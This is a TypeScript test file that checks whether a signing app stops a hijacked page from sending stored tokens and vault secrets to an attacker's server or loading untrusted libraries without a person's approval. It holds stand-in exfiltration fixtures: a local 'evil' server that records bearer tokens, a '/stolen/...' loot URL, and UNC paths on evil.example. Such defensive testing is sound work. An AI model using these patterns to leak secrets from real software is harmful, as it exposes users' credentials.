import { chmodSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'

import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest'

import type { SecretSource } from '../../../src-main/domain/secret-source'
import type { SecretPurpose } from '../../../src-main/domain/secret-use'
import type { RemoteConfig, ServerTrust, SignerConfig } from '../../../src-main/domain/signer'
import { calls } from '../../../src-preload/contract'
import type { SecureTask } from '../../../src-preload/contract/secure'
import { answerAsPerson } from '../../support/app/answer-person'
import { allowing } from '../../support/app/allowing'
import { launchApp, removeDataDir, setUp, type TestApp } from '../../support/app/launch'
import { startRemotePart, type RemotePart } from '../../support/signers/remote-part'

// A page that was taken over names secrets, places and libraries as it likes. What it does not have is a person before the main-owned window.
const ADDRESS = '0x70997970C51812dc3A010C7d01b50e0d17dc79C8'
const SECRET = 'a-secret-that-nobody-may-hear'

let office: RemotePart
let listener: Server
/** The attacker's own server, and everything that it heard. */
let evil: string
const heard: string[] = []
let app: TestApp
let asked: Extract<SecureTask, { kind: 'authorise' }>[]
let approves: boolean
let typed: string
let helpers: number

beforeAll(async () => {
  office = await startRemotePart({ dialect: 'web3signer' })
  listener = createServer((request, response) => {
    const vault = request.url === '/v1/kv/data/holdfast'
    heard.push(`${request.method} ${request.url} ${request.headers.authorization}`)
    response.end(vault ? JSON.stringify({ data: { data: { token: SECRET } } }) : '{}')
  })
  await new Promise<void>((done) => listener.listen(0, '127.0.0.1', done))
  evil = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`
})
afterAll(async () => {
  await office.close()
  listener.close()
})
beforeEach(async () => {
  helpers = 0
  app = await launchApp({
    spawnVendorHost: () => {
      helpers += 1
      throw new Error('a helper process was started')
    },
  })
  await setUp(app)
  await app.must('environment.switch', { environment: 'testnet' })
  asked = []
  heard.length = 0
  approves = false
  typed = SECRET
  answerAsPerson(app, {
    types: () => typed,
    approves: (task) => {
      asked.push(task)
      return approves
    },
  })
})
afterEach(async () => {
  await app.stop()
  removeDataDir(app.dataDir)
})

const type = async (purpose: SecretPurpose, secret = SECRET): Promise<string> => {
  typed = secret
  return (await app.must('signer.storeSecret', { purpose, label: `Office ${purpose}` })).ref!
}
const remote = (url: string, tokenRef: string | null, trust: ServerTrust = { type: 'system' }): RemoteConfig => ({
  kind: 'remote',
  dialect: 'intent',
  retries: 0,
  tokenRef,
  service: { url, timeoutMs: 2_000, trust, clientCertificate: null },
})
/** A signer that is there, with secrets in the app. */
async function officeSigner(): Promise<{ readonly id: string; readonly config: RemoteConfig; readonly tokenRef: string }> {
  const certificate = office.config.service.clientCertificate!
  const tokenRef = await type('token', office.secrets[office.config.tokenRef!])
  const clientCertificate = { ...certificate, keyRef: await type('client-key', office.secrets[certificate.keyRef]) }
  const config = { ...office.config, service: { ...office.config.service, clientCertificate }, tokenRef }
  const { id } = await allowing(app, () => app.must('signer.add', { label: 'Office', config, address: office.address }))
  await app.must('signer.leaveSetUp', {})
  return { id, config, tokenRef }
}
const shown = () => asked.at(-1)?.changes ?? []
const CANCELED = { ok: false, problem: { code: 'CANCELED_BY_USER' } }

describe('P1: a page that names a secret of a signer that is there', () => {
  test('and another place: nothing goes there unless a person says so, who sees which secret, where to, and how that place is known', async () => {
    const { tokenRef } = await officeSigner()
    const config = remote(evil, tokenRef)
    expect(await app.call('signer.discover', { config })).toMatchObject(CANCELED)
    expect(await app.call('signer.add', { label: 'Mine', config, address: ADDRESS })).toMatchObject(CANCELED)
    expect(await app.call('signer.verifyAddress', { config, address: ADDRESS })).toMatchObject(CANCELED)
    expect(asked).toHaveLength(3)
    for (const { act, changes } of asked) {
      expect(act).toBe('change-signers')
      expect(changes).toEqual([
        { label: 'Uses the Access token', before: null, after: `“Office token”, kept here (${tokenRef.slice(7, 15)})` },
        { label: 'Goes to', before: null, after: evil },
        { label: 'Server is known by', before: null, after: 'the authorities of this system' },
      ])
    }
    const service = { ...config.service }
    expect(await app.must('signer.initialise', { config: { kind: 'mpc_2pc', service, tokenRef } })).toMatchObject({ done: false })
    expect(shown().map(({ label }) => label)).toEqual(expect.arrayContaining(['Uses the Access token', 'Goes to', 'Server is known by']))
    expect(heard).toEqual([])
  })

  test('and the same place, known in another way, or by another kind: it is asked again', async () => {
    const { config, tokenRef } = await officeSigner()
    const { url } = config.service
    const pin = { type: 'pin', sha256: 'ab'.repeat(32) } as const
    const before = office.connections()
    for (const other of [
      { ...config, service: { ...config.service, trust: pin } },
      { ...config, service: { ...config.service, trust: { type: 'system' } as const } },
      { kind: 'mpc_2pc', service: config.service, tokenRef } as const,
      { ...config, service: { ...config.service, url: url.replace(/:\d+/, ':1') } },
    ])
      expect(await app.call('signer.discover', { config: other })).toMatchObject(CANCELED)
    expect(asked).toHaveLength(4)
    expect(asked[0]?.changes).toContainEqual({
      label: 'Server is known by',
      before: null,
      after: `this one certificate, SHA-256 ${pin.sha256}`,
    })
    expect(office.connections()).toBe(before)
  })

  test('and its own place: nobody is asked', async () => {
    const { config } = await officeSigner()
    expect((await app.must('signer.discover', { config })).accounts).toHaveLength(1)
    expect(asked).toEqual([])
  })

  test('what a person allowed is allowed for this set-up, and for that place alone', async () => {
    const { tokenRef } = await officeSigner()
    approves = true
    await app.call('signer.discover', { config: remote(evil, tokenRef) })
    await app.call('signer.discover', { config: remote(evil, tokenRef) })
    expect(asked).toHaveLength(1)
    expect(heard.length).toBeGreaterThan(1)
    await app.must('signer.leaveSetUp', {})
    heard.length = 0
    approves = false
    expect(await app.call('signer.discover', { config: remote(evil, tokenRef) })).toMatchObject(CANCELED)
    expect(heard).toEqual([])
  })
})

describe('P1, D2: a page that has main speak to a place, with bytes of its choosing and without a secret', () => {
  const LOOT = '/stolen/balances=1234.5;orders=abc?x=1'
  const emulator = (): SignerConfig => ({
    kind: 'ledger',
    driver: 'dmk',
    derivationPath: "44'/60'/0'/0/0",
    transport: { type: 'emulator', url: evil },
  })

  test('nothing is sent, on this machine or elsewhere, unless a person says so, who sees the whole destination', async () => {
    const config = remote(`${evil}${LOOT}`, null)
    expect(await app.call('signer.discover', { config })).toMatchObject(CANCELED)
    expect(await app.call('signer.add', { label: 'x', config, address: ADDRESS })).toMatchObject(CANCELED)
    expect(await app.call('signer.verifyAddress', { config, address: ADDRESS })).toMatchObject(CANCELED)
    expect(asked).toHaveLength(3)
    for (const { changes } of asked) {
      expect(changes).toEqual([
        { label: 'Goes to', before: null, after: `${evil}${LOOT}` },
        { label: 'Server is known by', before: null, after: 'the authorities of this system' },
      ])
    }
    expect(await app.call('signer.discover', { config: emulator() })).toMatchObject(CANCELED)
    expect(shown()).toEqual([{ label: 'Goes to', before: null, after: evil }])
    expect([heard, helpers]).toEqual([[], 0])
  })

  test('a destination that takes several lines is shown to its end', async () => {
    const long = `${evil}/${'a'.repeat(300)}?loot=the-end`
    expect(await app.call('signer.discover', { config: remote(long, null) })).toMatchObject(CANCELED)
    const lines = shown().filter(({ label }) => label.startsWith('Goes to'))
    expect(lines.length).toBeGreaterThan(1)
    expect(lines.map(({ after }) => after).join('')).toBe(long)
  })

  test('what a person let it speak to is that very destination, in this set-up; what is kept needs nobody', async () => {
    approves = true
    await app.call('signer.discover', { config: remote(`${evil}/a`, null) })
    expect(heard.length).toBeGreaterThan(0)
    approves = false
    heard.length = 0
    expect(await app.call('signer.discover', { config: remote(`${evil}${LOOT}`, null) })).toMatchObject(CANCELED)
    await app.must('signer.leaveSetUp', {})
    expect(await app.call('signer.discover', { config: remote(`${evil}/a`, null) })).toMatchObject(CANCELED)
    expect(heard).toEqual([])
  })
})

describe('P1: a page that names a secret that was just typed', () => {
  test('sends it to no place that nobody has allowed, and to one that is known without being asked again', async () => {
    const ref = await type('token')
    expect(await app.call('signer.discover', { config: remote(evil, ref) })).toMatchObject(CANCELED)
    expect(heard).toEqual([])
    approves = true
    await app.call('signer.discover', { config: remote(evil, null) })
    approves = false
    await app.call('signer.discover', { config: remote(evil, ref) })
    expect(heard.some((line) => line.endsWith(`Bearer ${SECRET}`))).toBe(true)
    expect(asked).toHaveLength(2)
  })

  test('two places at once: it goes to none', async () => {
    const ref = await type('token')
    const both = await Promise.all([
      app.call('signer.discover', { config: remote('http://127.0.0.1:1', ref) }),
      app.call('signer.discover', { config: remote(evil, ref) }),
    ])
    expect(both).toMatchObject([CANCELED, CANCELED])
    expect(heard).toEqual([])
  })

  test.each(['pin', 'client-key', 'access-key', 'session-token', 'service-account', 'client-secret'] as const)(
    'a %s is no token: it is given to nobody, whoever would allow it',
    async (purpose) => {
      approves = true
      const ref = await type(purpose)
      const used = await app.call('signer.discover', { config: remote(evil, ref) })
      expect(used).toMatchObject({ ok: false, problem: { figures: { reason: 'SECRET_UNAVAILABLE' } } })
      const source: SecretSource = { kind: 'vault', service: remote(evil, ref).service, tokenRef: ref }
      expect((await app.call('secrets.setSource', { kind: 'vault', source })).ok).toBe(false)
      expect([asked, heard]).toEqual([[], []])
    },
  )
})

describe('P1: a page that names what lies in a place outside', () => {
  const vaultRef = 'vault:kv/holdfast#token'

  test('the place is not even read before a person has allowed where it goes', async () => {
    approves = true
    const source: SecretSource = { kind: 'vault', service: remote(evil, '').service, tokenRef: await type('token', 'opens-the-vault') }
    expect(await app.must('secrets.setSource', { kind: 'vault', source })).toEqual({ done: true })
    await app.must('signer.leaveSetUp', {})
    approves = false
    for (const ref of [vaultRef, 'aws-sm:holdfast/token#a'])
      expect(await app.call('signer.discover', { config: remote(evil, ref) })).toMatchObject(CANCELED)
    expect([heard, helpers]).toEqual([[], 0])
    expect(asked.at(-2)?.changes[0]).toEqual({ label: 'Uses the Access token', before: null, after: vaultRef })
    approves = true
    await app.call('signer.discover', { config: remote(evil, vaultRef) })
    expect(heard).toContain('GET /v1/kv/data/holdfast Bearer opens-the-vault')
    expect(heard.some((line) => line.endsWith(`Bearer ${SECRET}`))).toBe(true)
  })

  test('whether anything lies under a name is told of names that a signer has; of any other only when a person says so', async () => {
    approves = true
    const source: SecretSource = { kind: 'vault', service: remote(evil, '').service, tokenRef: await type('token', 'opens-the-vault') }
    await app.must('secrets.setSource', { kind: 'vault', source })
    approves = false
    expect(await app.call('secrets.try', { ref: vaultRef })).toMatchObject(CANCELED)
    expect(await app.call('secrets.try', { ref: 'vault:kv/somebody-else#token' })).toMatchObject(CANCELED)
    expect(heard).toEqual([])
    expect(asked.at(-1)?.changes).toEqual([
      { label: 'Is read, to see whether it is there', before: null, after: 'vault:kv/somebody-else#token' },
    ])
    // Where nothing is configured, nothing is there: nobody has to say so.
    expect(await app.must('secrets.try', { ref: 'aws-sm:holdfast/token' })).toMatchObject({ found: false })
    approves = true
    expect(await app.must('secrets.try', { ref: vaultRef })).toMatchObject({ found: true })
    await app.call('signer.discover', { config: remote(evil, vaultRef) })
    approves = false
    expect(await app.must('secrets.try', { ref: vaultRef })).toMatchObject({ found: true })
  })

  const cloud: readonly (readonly [string, (ref: string, url: string) => SignerConfig])[] = [
    [
      'azure_key_vault by its authority',
      (clientSecretRef, authorityUrl) => ({ ...AZURE, clientSecretRef, authorityUrl, vaultUrl: 'https://mine.vault.azure.net' }),
    ],
    ['azure_key_vault by its vault', (clientSecretRef, vaultUrl) => ({ ...AZURE, clientSecretRef, authorityUrl: null, vaultUrl })],
    ['gcp_kms', (credentialsRef, endpoint) => ({ kind: 'gcp_kms', keyVersion: 'projects/a', credentialsRef, endpoint })],
    [
      'aws_kms',
      (ref, endpoint) => ({
        ...{ kind: 'aws_kms', region: 'eu-central-1', keyId: 'alias/a', accessKeyId: 'AKIAHOLDFASTTEST0001' },
        ...{ secretAccessKeyRef: ref, sessionTokenRef: ref, endpoint },
      }),
    ],
  ]
  const AZURE = { kind: 'azure_key_vault', keyName: 'k', keyVersion: '1', tenantId: 't', clientId: 'c' } as const
  test.each(cloud)('%s: no helper process is started before, and the place is shown', async (_name, configOf) => {
    expect(await app.call('signer.discover', { config: configOf(vaultRef, evil) })).toMatchObject(CANCELED)
    expect(helpers).toBe(0)
    expect(shown().map(({ after }) => after)).toEqual(expect.arrayContaining([vaultRef, evil]))
  })
})

describe('P1, C5: a page that names a library', () => {
  let folder: string
  beforeEach(() => {
    folder = realpathSync(mkdtempSync(join(tmpdir(), 'holdfast-library-')))
  })
  afterEach(() => rmSync(folder, { recursive: true, force: true }))
  const look = async (libraryPath: string) => {
    const pinRef = await type('pin')
    return app.call('signer.discover', { config: { kind: 'pkcs11', libraryPath, tokenLabel: 't', keyLabel: 'k', pinRef } })
  }
  const library = (name: string, mode = 0o644): string => {
    const path = join(folder, name)
    writeFileSync(path, 'no library')
    chmodSync(path, mode)
    return path
  }

  test('that is no file of this machine that its owner alone can change: refused, and nobody is asked', async () => {
    approves = true
    const paths = [
      'x.so',
      './x.so',
      '//evil.example/share/x.dll',
      '\\\\evil.example\\share\\x.dll',
      '\\\\?\\UNC\\evil\\x.dll',
      '/a\0/x.so',
      '/a//x.so',
    ]
    for (const path of paths) expect(await look(path), path).toMatchObject({ ok: false, problem: { code: 'INVALID_INPUT' } })
    for (const path of ['C:\\x.dll', folder, '/dev/null', join(folder, 'none.so'), library('all.so', 0o666), library('group.so', 0o664)])
      expect(await look(path), path).toMatchObject({ ok: false, problem: { code: 'SIGNER_UNAVAILABLE' } })
    expect([asked, helpers]).toEqual([[], 0])
  })

  test('it is loaded only when a person, who sees where it lies in truth, has allowed it; once allowed, it is not asked for again', async () => {
    const real = library('real.so')
    symlinkSync(real, join(folder, 'harmless.so'))
    expect(await look(join(folder, 'harmless.so'))).toMatchObject(CANCELED)
    expect(helpers).toBe(0)
    expect(shown()).toEqual(
      expect.arrayContaining([
        { label: 'Loads the library', before: null, after: real },
        { label: 'Uses the PIN', before: null, after: expect.stringContaining('“Office pin”, kept here') as string },
      ]),
    )
    approves = true
    await look(real)
    await look(real)
    expect(asked).toHaveLength(2)
    expect(helpers).toBe(2)
  })
})

describe('P7: what changes how a signer or a place is reached is seen', () => {
  test('another trust, another certificate, another time-out: each is a line of its own, before and after', async () => {
    const { id, config } = await officeSigner()
    const trust = { type: 'pin', sha256: 'ab'.repeat(32) } as const
    expect(await app.must('signer.configure', { id, config: { ...config, service: { ...config.service, trust } } })).toEqual({
      done: false,
    })
    expect(shown()).toEqual(
      expect.arrayContaining([
        { label: 'Server’s certificate is judged by', before: 'ca', after: 'pin' },
        {
          label: 'Certificate of your authority',
          before: expect.stringMatching(/^certificate, SHA-256 [0-9a-f]{64}$/) as string,
          after: 'none',
        },
        { label: 'Server’s one certificate, SHA-256', before: 'none', after: trust.sha256 },
        { label: 'Server is known by', before: null, after: `this one certificate, SHA-256 ${trust.sha256}` },
      ]),
    )
    const other = await startRemotePart({ dialect: 'web3signer' })
    const { certificatePem } = other.config.service.trust as Extract<ServerTrust, { type: 'ca' }>
    await other.close()
    const changed = { ...config, service: { ...config.service, trust: { type: 'ca', certificatePem } as const } }
    await app.must('signer.configure', { id, config: changed })
    const line = shown().find(({ label }) => label === 'Certificate of your authority')
    expect(line?.before).toMatch(/[0-9a-f]{64}$/)
    expect(line?.after).toMatch(/[0-9a-f]{64}$/)
    expect(line?.before).not.toBe(line?.after)
    expect(shown().map(({ label }) => label)).not.toContain('Address')
  })

  test('a place: the pin of its server before and after, and which secret goes there', async () => {
    const tokenRef = await type('token')
    const place = (sha256: string): SecretSource => ({
      kind: 'vault',
      service: { url: 'https://vault.example:8200', timeoutMs: 2_000, trust: { type: 'pin', sha256 }, clientCertificate: null },
      tokenRef,
    })
    approves = true
    await app.must('secrets.setSource', { kind: 'vault', source: place('11'.repeat(32)) })
    approves = false
    await app.must('secrets.setSource', { kind: 'vault', source: place('22'.repeat(32)) })
    expect(shown()).toEqual([
      { label: 'Server’s one certificate, SHA-256', before: '11'.repeat(32), after: '22'.repeat(32) },
      { label: 'Uses the Access token', before: null, after: `“Office token”, kept here (${tokenRef.slice(7, 15)})` },
      { label: 'Goes to', before: null, after: 'https://vault.example:8200' },
      { label: 'Server is known by', before: null, after: `this one certificate, SHA-256 ${'22'.repeat(32)}` },
    ])
  })

  test('what differs where nobody could see it is not even asked', async () => {
    const { id, config } = await officeSigner()
    const { trust } = config.service
    if (trust.type !== 'ca') throw new Error(trust.type)
    const spaced = { ...trust, certificatePem: `${trust.certificatePem}\n\n` }
    const reply = await app.call('signer.configure', { id, config: { ...config, service: { ...config.service, trust: spaced } } })
    expect(reply).toMatchObject({ ok: false, problem: { code: 'INVALID_INPUT' } })
    expect(asked).toEqual([])
  })
})

test('P1: these calls, and no other, take a config or a place from a page: each is among those above', () => {
  const taking = Object.entries(calls).flatMap(([name, { input }]) => {
    const { shape } = input as { shape?: Record<string, unknown> }
    return shape !== undefined && ('config' in shape || 'source' in shape) ? [name] : []
  })
  const ours = ['secrets.setSource', 'signer.add', 'signer.configure', 'signer.discover', 'signer.initialise', 'signer.verifyAddress']
  expect(taking.filter((name) => /^(?:signer|secrets)\./.test(name)).sort()).toEqual(ours)
})
